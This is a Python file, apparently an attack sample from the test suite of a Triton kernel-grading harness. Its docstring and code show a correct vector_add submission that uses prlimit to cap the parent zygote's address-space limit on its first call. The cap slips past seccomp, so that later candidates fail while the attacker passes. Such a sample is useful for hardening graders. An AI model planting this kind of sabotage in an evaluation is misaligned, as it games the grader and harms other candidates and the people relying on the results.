"""Attack (runners that keep the judge's user, TRITONGYM_RUNNER_USER=same, the GPU default): a correct
vector_add whose first forward lowers its zygote's hard RLIMIT_AS with prlimit64 (no signal, so the
seccomp filter lets it through; same uid everywhere, so the kernel needs no capability to lower a
limit). Every runner the zygote forks later inherits the finite hard limit: on the CPU its own
``setrlimit(RLIMIT_AS, (limit, RLIM_INFINITY))`` is refused (raising a hard limit needs
CAP_SYS_RESOURCE, dropped), on a GPU a finite address-space limit breaks CUDA's initialisation.
The attacker keeps ``ok``; later candidates of that judge fail."""

import os
import resource

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        if ModelNew.calls == 1:
            try:
                resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1 << 45, 1 << 45))
                print("zygote", os.getppid(), "capped", resource.prlimit(os.getppid(), resource.RLIMIT_AS))
            except OSError as exc:
                print("prlimit refused:", exc)
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
